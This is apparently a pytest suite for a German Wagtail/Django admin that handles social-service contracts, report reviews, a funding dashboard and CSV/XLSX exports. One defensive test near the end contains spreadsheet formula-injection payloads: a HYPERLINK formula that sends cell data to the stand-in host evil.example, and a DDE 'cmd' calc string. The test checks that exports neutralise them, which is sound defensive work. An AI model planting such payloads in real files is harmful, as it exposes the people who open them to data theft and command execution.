"""Staff side: snippets in the Wagtail admin, review of reports, dashboard and exports."""

import csv
import datetime
import io
from collections import defaultdict
from decimal import Decimal

import pytest
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry
from wagtail.test.utils.form_data import inline_formset, nested_form_data

from contracts.factories import ContractFactory, TargetGroupFactory
from contracts.models import Contract, ContractReport, ReportFigure
from portal.factories import OrganisationFactory

pytestmark = pytest.mark.django_db

DASHBOARD = reverse("contracts_admin:dashboard")


def submitted(report, user, figures=((4, 12, 1),)):
    report.status = ContractReport.Status.SUBMITTED
    report.submitted_by = user
    report.submitted_at = datetime.datetime(2026, 7, 30, 10, tzinfo=datetime.UTC)
    report.save()
    for group, (new, active, closed) in zip(report.contract.target_groups.all(), figures, strict=False):
        ReportFigure.objects.create(
            report=report, target_group=group, new_cases=new, active_cases=active, closed_cases=closed
        )
    return report


# --- permissions ---------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["member_a", "org_admin", "anonymous"])
def test_members_have_no_staff_views(people, kim, role):
    client = people.client(role)
    for url in (
        DASHBOARD,
        reverse("contracts_admin:export", args=["vertraege", "csv"]),
        reverse("contracts_admin:review", args=[kim.report_a.pk]),
        reverse("wagtailsnippets_contracts_contract:list"),
    ):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        if response.status_code == 302:
            assert "login" in response["Location"]


def test_admin_access_without_contract_permissions_is_refused(people, kim):
    from django.contrib.auth.models import Group

    from portal.factories import staff_user

    group = Group.objects.create(name="Nur Seiten")
    group.permissions.add(*Group.objects.get(name="Redaktion").permissions.exclude(content_type__app_label="contracts"))
    user = staff_user("Nur Seiten", people.city, email="seiten@example.org")
    user.groups.set([group])
    from django.test import Client

    client = Client()
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    # Wagtail turns the refusal into a redirect to the admin home with a message
    for url in (DASHBOARD, reverse("contracts_admin:export", args=["berichte", "xlsx"])):
        response = client.get(url)
        assert (response.status_code, response["Location"]) == (302, "/admin/"), url
    assert "Vertragsübersicht" not in client.get("/admin/").content.decode()


# --- snippets ------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["editor", "approver"])
def test_snippet_listings_with_search_and_filters(people, kim, role):
    client = people.client(role)
    listing = reverse("wagtailsnippets_contracts_contract:list")
    assert "56-A-1" in client.get(listing).content.decode()
    found = client.get(listing, {"q": "Caritas"}).content.decode()
    assert "56-B-1" in found and "56-A-1" not in found
    for params in (
        {"provider": kim.contract_a.provider_id},
        {"status": "active", "programme": kim.programme.pk, "target_groups": kim.groups[1].pk},
        {"districts": kim.districts[0].pk},
    ):
        html = client.get(listing, params).content.decode()
        assert "56-A-1" in html and "56-B-1" not in html, params
    reports = reverse("wagtailsnippets_contracts_contractreport:list")
    html = client.get(reports, {"contract__provider": kim.contract_b.provider_id}).content.decode()
    assert "56-B-1" in html and "56-A-1" not in html
    for name in ("fundingprogramme", "district", "targetgroup"):
        assert client.get(reverse(f"wagtailsnippets_contracts_{name}:list")).status_code == 200


def contract_form(kim, **overrides):
    data = {
        "provider": kim.contract_a.provider_id,
        "programme": kim.programme.pk,
        "reference": "56-NEU-1",
        "title": "Neuer Vertrag",
        "status": "active",
        "start": "2026-01-01",
        "end": "2026-12-31",
        "positions": "9.5",
        "positions_filled": "0",
        "yearly_amount": "",
        "target_groups": [kim.groups[0].pk],
        "districts": [kim.districts[0].pk],
        "report_interval": "6",
        "report_due_days": "31",
        "staff_notes": "",
        "document_links": inline_formset([]),
    }
    data.update(overrides)
    return nested_form_data(data)


def test_creating_a_contract_builds_the_schedule_and_warns_about_overcommitment(people, kim):
    client = people.client("editor")
    response = client.post(reverse("wagtailsnippets_contracts_contract:add"), contract_form(kim), follow=True)
    assert response.status_code == 200
    contract = Contract.objects.get(reference="56-NEU-1")
    assert contract.yearly_amount == Decimal("532000.00")
    assert contract.reports.count() == 2
    texts = [str(m) for m in response.context["messages"]]
    assert any("binden 2026 zusammen 12,00 Stellen; das Programm hat nur 10,00" in t for t in texts), texts
    assert any("2 Berichtstermine wurden angelegt" in t for t in texts), texts


def test_shortening_a_contract_removes_reports_no_longer_owed(people, kim):
    client = people.client("editor")
    client.post(reverse("wagtailsnippets_contracts_contract:add"), contract_form(kim))
    contract = Contract.objects.get(reference="56-NEU-1")  # 2026, half-yearly: two reports
    url = reverse("wagtailsnippets_contracts_contract:edit", args=[contract.pk])
    response = client.post(url, contract_form(kim, end="2026-06-30"), follow=True)
    texts = [str(m) for m in response.context["messages"]]
    assert any("1 nicht mehr benötigter Berichtstermin wurde entfernt" in t for t in texts), texts
    assert [(r.period_start, r.period_end) for r in contract.reports.all()] == [
        (datetime.date(2026, 1, 1), datetime.date(2026, 6, 30))
    ]


def test_report_status_changes_only_by_review(people, kim):
    report = kim.report_a
    url = reverse("wagtailsnippets_contracts_contractreport:edit", args=[report.pk])
    data = nested_form_data(
        {
            "contract": report.contract_id,
            "kind": report.kind,
            "status": ContractReport.Status.ACCEPTED,
            "period_start": report.period_start.isoformat(),
            "period_end": report.period_end.isoformat(),
            "due_date": report.due_date.isoformat(),
            "document": "",
            "figures": inline_formset([]),
            "remarks": "",
            "review_comment": "Passt.",
        }
    )
    response = people.client("editor").post(url, data)
    assert response.status_code == 302
    report.refresh_from_db()
    assert report.review_comment == "Passt."  # the form was saved
    assert report.status == ContractReport.Status.DUE  # but not the status


def test_invalid_contract_shows_german_messages(people, kim):
    client = people.client("editor")
    response = client.post(
        reverse("wagtailsnippets_contracts_contract:add"),
        contract_form(kim, end="2025-06-30", positions="0"),
    )
    html = response.content.decode()
    assert "Das Vertragsende muss nach dem Vertragsbeginn liegen." in html
    assert "Bitte geben Sie mehr als 0 Stellen an." in html
    assert not Contract.objects.filter(reference="56-NEU-1").exists()


def test_editing_a_contract_keeps_revisions_and_an_audit_log(people, kim):
    client = people.client("editor")
    url = reverse("wagtailsnippets_contracts_contract:edit", args=[kim.contract_a.pk])
    data = contract_form(
        kim,
        reference="56-A-1",
        positions="2",
        positions_filled="1",
        yearly_amount="112000",
        start="2025-01-01",
        end="2026-12-31",
    )
    response = client.post(url, data)
    assert response.status_code == 302
    kim.contract_a.refresh_from_db()
    assert kim.contract_a.positions == Decimal("2")
    assert kim.contract_a.revisions.count() == 1
    assert ModelLogEntry.objects.filter(object_id=str(kim.contract_a.pk), action="wagtail.edit").exists()
    history = client.get(reverse("wagtailsnippets_contracts_contract:history", args=[kim.contract_a.pk]))
    assert history.status_code == 200


# --- review --------------------------------------------------------------------------------


def test_accept_a_report(people, kim):
    report = submitted(kim.report_a, people.users["member_a"])
    client = people.client("approver")
    url = reverse("contracts_admin:review", args=[report.pk])
    page = client.get(url)
    assert page.status_code == 200 and "Asylsuchende" in page.content.decode()
    response = client.post(url, {"decision": "accept", "comment": ""})
    assert response.status_code == 302
    report.refresh_from_db()
    assert report.status == ContractReport.Status.ACCEPTED
    assert report.reviewed_by == people.users["approver"]
    assert ModelLogEntry.objects.filter(action="contracts.report_accepted").exists()
    # a decided report is not decided again
    assert client.post(url, {"decision": "revision", "comment": "Noch mal"}).status_code == 302
    report.refresh_from_db()
    assert report.status == ContractReport.Status.ACCEPTED


def test_request_revision_mails_the_provider(people, kim, django_capture_on_commit_callbacks):
    report = submitted(kim.report_a, people.users["member_a"])
    client = people.client("editor")
    url = reverse("contracts_admin:review", args=[report.pk])
    missing = client.post(url, {"decision": "revision", "comment": "  "})
    assert missing.status_code == 400
    assert "Bitte beschreiben Sie, was der Träger überarbeiten soll." in missing.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"decision": "revision", "comment": "Bitte Fallzahlen je Stadtteil ergänzen."})
    assert response.status_code == 302
    report.refresh_from_db()
    assert report.status == ContractReport.Status.REVISION_REQUESTED
    assert report.review_comment == "Bitte Fallzahlen je Stadtteil ergänzen."
    recipients = sorted(address for m in mail.outbox for address in m.to)
    assert recipients == sorted([people.users["member_a"].email, people.users["org_admin"].email])
    message = mail.outbox[0]
    assert "Bitte überarbeiten" in message.subject
    assert "Bitte Fallzahlen je Stadtteil ergänzen." in message.body
    assert reverse("contracts:report_detail", args=[report.pk]) in message.body
    assert "List-Unsubscribe" in message.extra_headers
    assert ModelLogEntry.objects.filter(action="contracts.report_revision_requested").exists()


def test_review_button_in_the_report_listing(people, kim):
    submitted(kim.report_a, people.users["member_a"])
    html = people.client("editor").get(reverse("wagtailsnippets_contracts_contractreport:list")).content.decode()
    assert reverse("contracts_admin:review", args=[kim.report_a.pk]) in html
    assert reverse("contracts_admin:review", args=[kim.report_b.pk]) not in html


# --- dashboard -----------------------------------------------------------------------------


def test_dashboard_totals_equal_independent_sums(people, kim):
    extra_group = TargetGroupFactory(name="EU-Zugewanderte")
    ContractFactory(
        provider=OrganisationFactory(name="Diakonie Test"),
        programme=kim.programme,
        positions=Decimal("2.5"),
        positions_filled=Decimal("2"),
        yearly_amount=Decimal("140000"),
        start=datetime.date(2026, 4, 1),
        end=datetime.date(2027, 3, 31),
        districts=kim.districts,
        target_groups=[extra_group, kim.groups[0]],
    )
    ContractFactory(programme=kim.programme, status=Contract.Status.NEGOTIATION, positions=Decimal("3"))
    ContractFactory(programme=kim.programme, start=datetime.date(2027, 1, 1), end=datetime.date(2027, 12, 31))

    response = people.client("approver").get(DASHBOARD, {"jahr": "2026"})
    assert response.status_code == 200
    context = response.context

    committing = [c for c in Contract.objects.all() if c.status != "negotiation"]

    def runs(c, year):
        return c.start.year <= year <= c.end.year

    for entry in context["programme_years"]:
        mine = [c for c in committing if c.programme_id == entry.programme.pk and runs(c, entry.year)]
        assert entry.committed == sum((c.positions for c in mine), Decimal(0)), entry.label
        assert entry.filled == sum((c.positions_filled for c in mine), Decimal(0)), entry.label
        assert entry.funding == sum((c.yearly_amount for c in mine), Decimal(0)), entry.label
        assert entry.available == Decimal("10")
    in_2026 = [c for c in committing if runs(c, 2026)]
    year_entry = next(e for e in context["programme_years"] if e.year == 2026)
    assert year_entry.committed == Decimal("5")  # 1.5 + 1 + 2.5
    assert year_entry.funding == Decimal("84123.45") + Decimal("56789.10") + Decimal("140000")

    expected_provider = defaultdict(Decimal)
    expected_district = defaultdict(Decimal)
    expected_group_funding = defaultdict(Decimal)
    for c in in_2026:
        expected_provider[c.provider.display_name] += c.yearly_amount
        districts = [d.name for d in c.districts.all()] or ["ohne Stadtteil"]
        for name in districts:
            expected_district[name] += c.positions / len(districts)
        groups = [g.name for g in c.target_groups.all()] or ["ohne Zielgruppe"]
        for name in groups:
            expected_group_funding[name] += c.yearly_amount / len(groups)
    assert {r.label: r.funding for r in context["per_provider"].rows} == dict(expected_provider)
    assert {r.label: r.positions for r in context["per_district"].rows} == pytest.approx(dict(expected_district))
    assert {r.label: r.funding for r in context["per_target_group"].rows} == pytest.approx(dict(expected_group_funding))
    assert context["per_district"].total.positions == pytest.approx(Decimal("5"))
    assert context["per_target_group"].total.funding == pytest.approx(year_entry.funding)
    html = response.content.decode()
    assert "<svg" in html and "<table" in html
    # SVG geometry is never localised (a decimal comma would break the chart)
    import re

    rects = re.findall(r'<rect x="([^"]+)" y="([^"]+)" width="([^"]+)" height="([^"]+)"', html)
    assert rects and all(re.fullmatch(r"[\d.]+", value) for rect in rects for value in rect), rects[:3]
    assert "5,00" in html or "5" in html
    assert "280.912,55 €" in html  # the funding of 2026 in the table beside the chart


def test_dashboard_report_counts_and_ending_contracts(people, kim, time_machine):
    time_machine.move_to(datetime.datetime(2026, 11, 1, 9, tzinfo=datetime.UTC))
    kim.contract_a.ensure_schedule()  # 2025/1, 2025/2 overdue; 2026/2 due 31.01.2027
    submitted(kim.report_b, people.users["member_b"])
    response = people.client("editor").get(DASHBOARD)
    counts = response.context["report_counts"]
    assert counts == {"due_soon": 0, "overdue": 3, "awaiting_review": 1, "revision_requested": 0}
    assert [r.pk for r in response.context["awaiting_review"]] == [kim.report_b.pk]
    assert {c.reference for c in response.context["ending_contracts"]} == {"56-A-1", "56-B-1"}
    html = response.content.decode()
    assert reverse("contracts_admin:review", args=[kim.report_b.pk]) in html
    time_machine.move_to(datetime.datetime(2027, 1, 10, 9, tzinfo=datetime.UTC))
    counts = people.client("editor").get(DASHBOARD).context["report_counts"]
    assert counts["due_soon"] == 1  # the report for 2026/2 of contract A, due 31.01.2027
    assert people.client("editor").get(DASHBOARD).context["ending_contracts"] == []


def test_dashboard_query_count_is_constant(people, kim):
    client = people.client("editor")

    def count():
        client.get(DASHBOARD)
        with CaptureQueriesContext(connection) as queries:
            response = client.get(DASHBOARD, {"jahr": "2026"})
        assert response.status_code == 200
        return len(queries)

    def add(n):
        for i in range(n):
            provider = OrganisationFactory() if i % 10 == 0 else kim.contract_a.provider
            contract = ContractFactory(
                provider=provider, programme=kim.programme, districts=kim.districts, target_groups=kim.groups
            )
            contract.ensure_schedule()

    add(3)
    small = count()
    add(95)
    large = count()
    assert small == large, f"dashboard queries for 5 contracts: {small}, for 100: {large}"
    print(f"\ndashboard: {small} queries for 5 and for 100 contracts")


def test_admin_home_shows_a_summary_panel(people, kim):
    submitted(kim.report_a, people.users["member_a"])
    html = people.client("editor").get("/admin/").content.decode()
    assert "Verträge und Berichte" in html and "1 Bericht wartet auf Prüfung" in html


# --- exports -------------------------------------------------------------------------------


def test_contract_exports_csv_and_xlsx(people, kim):
    client = people.client("editor")
    response = client.get(reverse("contracts_admin:export", args=["vertraege", "csv"]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:3] == ["Aktenzeichen", "Bezeichnung", "Träger"]
    assert "Jahresbetrag (EUR)" in rows[0]
    by_reference = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert set(by_reference) == {"56-A-1", "56-B-1"}
    a = by_reference["56-A-1"]
    assert a["Jahresbetrag (EUR)"] == "84123,45"
    assert a["Stellen (VZÄ)"] == "1,50"
    assert a["Vertragsbeginn"] == "01.01.2025"
    assert a["Zielgruppen"] == "Asylsuchende, Geflüchtete"  # by sort order, then name

    response = client.get(reverse("contracts_admin:export", args=["vertraege", "xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    by_reference = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_reference["56-B-1"]["Jahresbetrag (EUR)"] == pytest.approx(56789.10)
    assert by_reference["56-A-1"]["Vertragsende"] == datetime.datetime(2026, 12, 31)
    amount_cell = sheet.cell(row=2, column=header.index("Jahresbetrag (EUR)") + 1)
    assert amount_cell.number_format == '#,##0.00 "€"'
    assert sheet.cell(row=2, column=header.index("Vertragsbeginn") + 1).number_format == "DD.MM.YYYY"


def test_report_exports_csv_and_xlsx(people, kim):
    submitted(kim.report_a, people.users["member_a"], figures=((4, 12, 1), (2, 5, 0)))
    client = people.client("editor")
    text = client.get(reverse("contracts_admin:export", args=["berichte", "csv"])).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header = rows[0]
    assert "Neue Fälle: Geflüchtete" in header and "Laufende Fälle gesamt" in header
    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert len(records) == 2
    a = next(r for r in records if r["Aktenzeichen"] == "56-A-1")
    assert a["Status"] == "eingereicht" and a["Fällig am"] == "31.07.2026" and a["Eingereicht am"] == "30.07.2026"
    assert a["Neue Fälle gesamt"] == "6" and a["Laufende Fälle: Asylsuchende"] == "12"
    b = next(r for r in records if r["Aktenzeichen"] == "56-B-1")
    assert b["Status"] == "überfällig" and b["Neue Fälle gesamt"] == ""

    response = client.get(reverse("contracts_admin:export", args=["berichte", "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    a = next(r for r in records if r["Aktenzeichen"] == "56-A-1")
    assert a["Abgeschlossene Fälle gesamt"] == 1 and a["Neue Fälle: Geflüchtete"] == 2
    assert client.get("/admin/vertraege/export/geheim.csv").status_code == 404
    assert client.get("/admin/vertraege/export/vertraege.pdf").status_code == 404


def test_admin_forms_render(people, kim):
    client = people.client("editor")
    submitted(kim.report_a, people.users["member_a"])
    objects = {
        "contract": kim.contract_a,
        "contractreport": kim.report_a,
        "fundingprogramme": kim.programme,
        "district": kim.districts[0],
        "targetgroup": kim.groups[0],
    }
    for name, instance in objects.items():
        assert client.get(reverse(f"wagtailsnippets_contracts_{name}:add")).status_code == 200, name
        assert client.get(reverse(f"wagtailsnippets_contracts_{name}:edit", args=[instance.pk])).status_code == 200
    assert client.get(DASHBOARD, {"jahr": "kein Jahr"}).status_code == 200
    page = client.get(reverse("contracts_admin:review", args=[kim.report_b.pk])).content.decode()
    assert "wartet nicht auf eine Prüfung" in page


EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_exports_neutralise_formula_injection(people, kim, prefix):
    """A member named like a formula stays plain text in CSV and XLSX; numbers stay numbers."""
    member = people.users["member_a"]
    member.first_name, member.last_name = EVIL, ""
    member.save()
    submitted(kim.report_a, member)
    title = f"{prefix}SUM(1+1)*cmd|' /C calc'!A0"
    kim.contract_a.title = title
    kim.contract_a.yearly_amount = Decimal("-12.50")
    kim.contract_a.save()
    client = people.client("editor")

    def record(rows):
        header = rows[0]
        return next(dict(zip(header, row, strict=True)) for row in rows[1:] if row[0] == "56-A-1")

    text = client.get(reverse("contracts_admin:export", args=["berichte", "csv"])).content.decode("utf-8-sig")
    assert record(list(csv.reader(io.StringIO(text), delimiter=";")))["Eingereicht von"] == "'" + EVIL
    text = client.get(reverse("contracts_admin:export", args=["vertraege", "csv"])).content.decode("utf-8-sig")
    contract = record(list(csv.reader(io.StringIO(text), delimiter=";")))
    assert contract["Bezeichnung"] == "'" + title
    assert contract["Jahresbetrag (EUR)"] == "-12,50"  # a negative number is not text

    for what in ("berichte", "vertraege"):
        response = client.get(reverse("contracts_admin:export", args=[what, "xlsx"]))
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        header = [c.value for c in sheet[1]]
        row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "56-A-1")
        cells = {name: c.value for name, c in zip(header, row, strict=True)}
        types = {name: c.data_type for name, c in zip(header, row, strict=True)}
        if what == "berichte":
            assert cells["Eingereicht von"] == "'" + EVIL and types["Eingereicht von"] == "s"
            assert cells["Laufende Fälle gesamt"] == 12 and types["Laufende Fälle gesamt"] == "n"
        else:
            assert cells["Bezeichnung"] == "'" + title
            assert cells["Jahresbetrag (EUR)"] == pytest.approx(-12.5) and types["Jahresbetrag (EUR)"] == "n"
            assert types["Stellen (VZÄ)"] == "n" and types["Vertragsbeginn"] == "d"


def test_submitted_reports_are_in_the_submitters_data_export(people, kim):
    member = people.users["member_a"]
    submitted(kim.report_a, member)
    data = people.client("member_a").get("/konto/daten-export/").json()
    [report] = data["submitted_reports"]
    assert report["contract"] == kim.contract_a.reference and report["status"] == "eingereicht"
    assert report["report"] == str(kim.report_a) and report["submitted_at"]
    assert people.client("member_b").get("/konto/daten-export/").json()["submitted_reports"] == []
